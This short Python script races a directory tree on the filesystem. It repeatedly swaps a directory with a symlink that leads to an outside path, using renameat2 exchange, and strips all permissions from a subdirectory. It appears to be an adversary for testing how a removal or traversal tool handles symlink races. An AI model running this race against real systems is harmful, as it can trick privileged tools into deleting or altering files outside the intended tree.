"""Makes a tree again and again, until it is killed; exchanges a directory of it with a link that leads out, and takes every
right from another one: TREE OUTSIDE."""
import ctypes
import os
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)
tree, outside = sys.argv[1].encode(), sys.argv[2].encode()


def attempt(act, *arguments, **options):
    try:
        act(*arguments, **options)
    except OSError:  # Whoever removes it was quicker.
        pass


while True:
    attempt(os.makedirs, tree + b"/directory", exist_ok=True)
    attempt(os.makedirs, tree + b"/closed/deep", exist_ok=True)
    attempt(os.symlink, outside, tree + b"/link")
    for _ in range(200):
        libc.renameat2(AT_FDCWD, tree + b"/directory", AT_FDCWD, tree + b"/link", RENAME_EXCHANGE)
        attempt(os.chmod, tree + b"/closed", 0)
